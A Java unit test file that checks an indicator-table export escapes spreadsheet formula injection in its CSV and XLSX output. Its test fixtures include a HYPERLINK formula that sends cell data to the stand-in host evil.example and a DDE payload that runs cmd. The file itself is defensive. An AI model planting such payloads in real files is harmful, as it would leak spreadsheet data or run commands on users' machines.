package org.povertyledger.query.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.povertyledger.shared.geography.value.UnitLevel;
import org.povertyledger.shared.indicator.query.IndicatorTableRow;
import org.povertyledger.shared.indicator.query.IndicatorTableView;
import org.povertyledger.shared.indicator.value.Direction;
import org.povertyledger.shared.indicator.value.UnitOfMeasure;

class IndicatorTableExportTest {

    private static final List<IndicatorTableView> HOSTILE = List.of(new IndicatorTableView("POVERTY_RATE",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", UnitOfMeasure.PERCENT, Direction.LOWER_IS_BETTER, null,
            2024, LocalDate.of(2024, 12, 31), LocalDate.of(2024, 12, 31),
            List.of(row("@SUM(1+1)*cmd|' /C calc'!A0"), row("+1+1"), row("-2+3"), row("\tTab"), row("Ea Kiet")),
            42, Instant.parse("2025-01-01T00:00:00Z")));

    private static IndicatorTableRow row(String unitName) {
        return new IndicatorTableRow(1, "24541", unitName, UnitLevel.COMMUNE, false, new BigDecimal("-1.5"), 3L, 200L,
                null);
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralisedAndNumbersStayNumbers() {
        String csv = IndicatorTableExport.csv(HOSTILE);

        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",")
                .contains(",'@SUM(1+1)*cmd|' /C calc'!A0,").contains(",'+1+1,").contains(",'-2+3,")
                .contains(",'\tTab,").contains(",Ea Kiet,").contains(",-1.5,");
        for (String line : csv.split("\r\n")) {
            for (String cell : line.split(",")) {
                assertThat(cell).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("+");
            }
        }
    }

    @Test
    void xlsxTextCellsAreNeutralisedAndNumbersStayNumbers() throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(IndicatorTableExport.xlsx(HOSTILE, 42L, java.time.Instant.parse("2025-01-01T00:00:00Z"))))) {
            Sheet sheet = workbook.getSheetAt(0);
            int name = IndicatorTableExport.COLUMNS.indexOf("indicator_name");
            int unit = IndicatorTableExport.COLUMNS.indexOf("unit_name");
            int value = IndicatorTableExport.COLUMNS.indexOf("value");
            Row first = sheet.getRow(1);
            assertThat(first.getCell(name).getStringCellValue()).startsWith("'=HYPERLINK");
            assertThat(first.getCell(unit).getStringCellValue()).startsWith("'@SUM");
            assertThat(sheet.getRow(3).getCell(unit).getStringCellValue()).isEqualTo("'-2+3");
            assertThat(sheet.getRow(5).getCell(unit).getStringCellValue()).isEqualTo("Ea Kiet");
            assertThat(first.getCell(value).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(first.getCell(value).getNumericCellValue()).isEqualTo(-1.5);
            for (Row row : sheet) {
                row.forEach(cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA));
            }
        }
    }
}
